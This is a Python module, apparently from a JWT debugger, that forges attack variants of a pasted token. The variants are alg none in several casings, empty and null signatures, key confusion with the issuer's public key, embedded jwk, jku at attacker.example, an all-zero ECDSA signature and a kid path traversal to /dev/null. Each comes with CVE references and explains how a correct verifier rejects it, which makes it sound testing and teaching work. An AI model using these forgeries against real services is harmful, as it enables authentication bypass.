"""The attack lab: forged variants of a token, each explaining the vulnerability it exploits.

Everything is computed here and returned to the page; nothing is sent to any other host, and the
`jku` URL in a variant is never fetched. Each variant names the finding the debugger raises for it,
so a user can load it back and see how a correct verifier rejects it.
"""

from __future__ import annotations

import hmac
import json
from typing import Any, NotRequired, TypedDict

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from jwt.algorithms import ECAlgorithm

from ..errors import UNREADABLE_TOKEN, DebuggerError
from ..jose import jsontext
from ..jose.algorithms import ALGORITHMS
from ..jose.b64 import b64url
from ..jose.keys import read_key
from ..jose.pasted import parse
from .findings import SIGNATURE_LENGTHS

NONE_CASINGS = ("none", "None", "NONE", "nOnE")
ATTACKER_JKU = "https://attacker.example/.well-known/jwks.json"
TRAVERSAL_KID = "../../../../../../../dev/null"
_HMAC_BY_HASH = {
    spec.hash_bytes: spec.name for spec in ALGORITHMS.values() if spec.kind == "secret"
}


class Variant(TypedDict):
    """One forged token: what was changed, the finding it tests, and the attack it stands for.

    `attacker_jwks` is the key set an attacker would publish, for the jku variant only."""

    id: str
    title: str
    token: str
    header: dict[str, Any]
    finding: str
    explanation: str
    references: list[str]
    attacker_jwks: NotRequired[dict[str, list[dict[str, Any]]]]


class Skipped(TypedDict):
    """A variant that could not be forged, and why."""

    id: str
    reason: str


class ForgedVariants(TypedDict):
    """The answer of the attack lab: the variants forged and the ones skipped."""

    variants: list[Variant]
    skipped: list[Skipped]


def forge_variants(
    token: str, public_key: str | None = None, *, jku_url: str | None = None
) -> ForgedVariants:
    """Forged variants of `token`; the key-confusion one needs the issuer's `public_key`, and the
    jku one points at `jku_url` when given (else at an example attacker's URL)."""
    parsed = parse(token)
    if (
        parsed.header is None
        or len(parsed.segments) not in (2, 3)
        or not _is_utf8(parsed.segments[1])
    ):
        raise DebuggerError(
            UNREADABLE_TOKEN,
            "The attack lab needs a token whose header can be read. Fix the token first.",
            field="token",
        )
    forge = _Forge(parsed.header, parsed.segments[0], parsed.segments[1])
    variants = [forge.alg_none(casing) for casing in NONE_CASINGS]
    variants += [forge.null_signature(), forge.empty_secret()]
    skipped: list[Skipped] = []
    confusion = forge.key_confusion(public_key)
    if isinstance(confusion, str):
        skipped.append({"id": "key-confusion", "reason": confusion})
    else:
        variants.append(confusion)
    variants += [
        forge.embedded_jwk(),
        forge.jku(jku_url or ATTACKER_JKU),
        forge.psychic(),
        forge.kid_traversal(),
    ]
    return {"variants": variants, "skipped": skipped}


def _is_utf8(text: str) -> bool:
    """False for text holding a lone surrogate, which no token's bytes can carry."""
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


class _Forge:
    """Builds variants from one token's header and payload segment."""

    def __init__(self, header: dict[str, Any], header_segment: str, payload_segment: str):
        self.header = header
        self.header_segment = header_segment
        self.payload_segment = payload_segment
        alg = header.get("alg")
        spec = ALGORITHMS.get(alg) if isinstance(alg, str) else None
        self.hmac_alg = _HMAC_BY_HASH.get(spec.hash_bytes if spec else 0, "HS256")
        self.ecdsa_alg = alg if isinstance(alg, str) and alg.startswith("ES") and spec else "ES256"
        self._attacker_key: ec.EllipticCurvePrivateKey | None = None

    def _signing_input(self, header: dict[str, Any]) -> str:
        return f"{b64url(jsontext.dumps(header).encode())}.{self.payload_segment}"

    def _hmac_token(self, header: dict[str, Any], secret: bytes) -> str:
        signing_input = self._signing_input(header)
        name = ALGORITHMS[header["alg"]].hash_name or "sha256"
        return f"{signing_input}.{b64url(hmac.digest(secret, signing_input.encode(), name))}"

    def _attacker_signed(self, header: dict[str, Any]) -> str:
        signing_input = self._signing_input(header)
        signature = ALGORITHMS["ES256"].implementation.sign(
            signing_input.encode(), self.attacker_key
        )
        return f"{signing_input}.{b64url(signature)}"

    @property
    def attacker_key(self) -> ec.EllipticCurvePrivateKey:
        """A fresh P-256 key pair made for this request: the attacker's key."""
        if self._attacker_key is None:
            self._attacker_key = ec.generate_private_key(ec.SECP256R1())
        return self._attacker_key

    def _attacker_jwk(self) -> dict[str, Any]:
        jwk: dict[str, Any] = json.loads(ECAlgorithm.to_jwk(self.attacker_key.public_key()))
        return {**jwk, "kid": "attacker-key", "use": "sig", "alg": "ES256"}

    def alg_none(self, casing: str) -> Variant:
        header = {**self.header, "alg": casing}
        return _variant(
            f"alg-{casing}",
            f'alg "{casing}", no signature',
            f"{self._signing_input(header)}.",
            header,
            "alg-none",
            f'The header says alg "{casing}" and the signature is gone. A verifier that takes '
            "the algorithm from the header treats the token as needing no check and accepts any "
            "claims; block-lists that compare case-sensitively miss casings such as None or "
            "nOnE. A correct verifier only accepts the algorithms it was configured with.",
            ["CVE-2015-2951", "CVE-2018-1000531", "RFC 8725 section 3.1"],
        )

    def null_signature(self) -> Variant:
        return _variant(
            "null-signature",
            "Original header, empty signature",
            f"{self.header_segment}.{self.payload_segment}.",
            self.header,
            "null-signature",
            "The header still names a real algorithm, but the signature part is empty. A "
            "verifier that compares signatures without checking their length first, or loops "
            "over zero bytes, accepts it. A correct verifier rejects any signature of the "
            "wrong length.",
            ["CVE-2020-28042"],
        )

    def empty_secret(self) -> Variant:
        header = {**self.header, "alg": self.hmac_alg}
        return _variant(
            "empty-secret",
            f"{self.hmac_alg} signed with an empty secret",
            self._hmac_token(header, b""),
            header,
            "empty-secret",
            "Signed with an empty HMAC secret. Services whose secret was never configured (an "
            "unset environment variable, a missing file) verify with an empty key and accept "
            "tokens anyone can make. A correct verifier refuses to run without a secret.",
            ["CVE-2019-20933", "CVE-2020-28637", "RFC 8725 section 3.5"],
        )

    def key_confusion(self, public_key: str | None) -> Variant | str:
        if not public_key or not public_key.strip():
            return "Paste the issuer's public key in the key box to forge this variant."
        try:
            ring = read_key(public_key)
        except DebuggerError as err:
            return f"The key could not be read: {err.message}"
        key = next((key for key in ring.keys if key.kind != "secret"), None)
        if key is None:
            return "This variant needs the issuer's public key, and the key box holds a secret."
        pem = key.verifying_material.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
        header = {**self.header, "alg": self.hmac_alg}
        return _variant(
            "key-confusion",
            f"{self.hmac_alg} signed with the public key as secret",
            self._hmac_token(header, pem),
            header,
            "key-confusion",
            f"The alg is switched to {self.hmac_alg} and the token is signed with the text of "
            "the issuer's public key (PEM, as it sits in a file) as the HMAC secret. A "
            "verifier that passes its configured public key to whatever algorithm the header "
            "names computes the same HMAC and accepts it. A correct verifier ties the algorithm "
            "to the key type.",
            ["CVE-2015-9235", "CVE-2016-10555", "CVE-2022-29217"],
        )

    def embedded_jwk(self) -> Variant:
        header = {**self.header, "alg": "ES256", "jwk": self._attacker_jwk()}
        return _variant(
            "embedded-jwk",
            "Signed with a fresh key, embedded in the header (jwk)",
            self._attacker_signed(header),
            header,
            "embedded-jwk",
            "A key made just now signs the token, and its public part travels in the header's "
            "jwk. A verifier that verifies with the key the token brings accepts it. A correct "
            "verifier only uses keys it was configured with.",
            ["CVE-2018-0114", "RFC 8725 section 3.10"],
        )

    def jku(self, url: str) -> Variant:
        header = {**self.header, "alg": "ES256", "jku": url, "kid": "attacker-key"}
        variant = _variant(
            "jku-attacker",
            "jku pointing at an attacker's key set",
            self._attacker_signed(header),
            header,
            "jku-header",
            f"The header's jku points at {url}, where an attacker would publish the "
            "key set shown here, and a key made just now signs the token. A verifier that "
            "fetches keys from jku verifies with the attacker's key (and can be made to request "
            "internal URLs). A correct verifier never fetches keys named by the token. This "
            "debugger does not fetch it either.",
            ["RFC 8725 section 3.10"],
        )
        variant["attacker_jwks"] = {"keys": [self._attacker_jwk()]}
        return variant

    def psychic(self) -> Variant:
        header = {**self.header, "alg": self.ecdsa_alg}
        length = SIGNATURE_LENGTHS[self.ecdsa_alg][0]
        return _variant(
            "psychic-signature",
            f"{self.ecdsa_alg} psychic signature (r = s = 0)",
            f"{self._signing_input(header)}.{b64url(bytes(length))}",
            header,
            "psychic-signature",
            "The ECDSA signature is all zeros: r = 0 and s = 0. The ECDSA check then compares "
            "zero with zero, so Java 15 to 18 accepted it for any message and any key. A "
            "correct verifier rejects r or s outside 1 to n - 1.",
            ["CVE-2022-21449"],
        )

    def kid_traversal(self) -> Variant:
        header = {**self.header, "alg": self.hmac_alg, "kid": TRAVERSAL_KID}
        return _variant(
            "kid-traversal",
            "kid path traversal to /dev/null, empty secret",
            self._hmac_token(header, b""),
            header,
            "kid-injection",
            f'The kid is "{TRAVERSAL_KID}" and the token is signed with an empty secret. A '
            "verifier that reads the key from a file named by kid reads /dev/null, gets an "
            "empty key and accepts the token. A correct verifier looks kid up in a fixed set of "
            "known keys.",
            ["RFC 8725 section 3.10"],
        )


def _variant(
    variant_id: str,
    title: str,
    token: str,
    header: dict[str, Any],
    finding_id: str,
    explanation: str,
    references: list[str],
) -> Variant:
    return {
        "id": variant_id,
        "title": title,
        "token": token,
        "header": header,
        "finding": finding_id,
        "explanation": explanation,
        "references": references,
    }
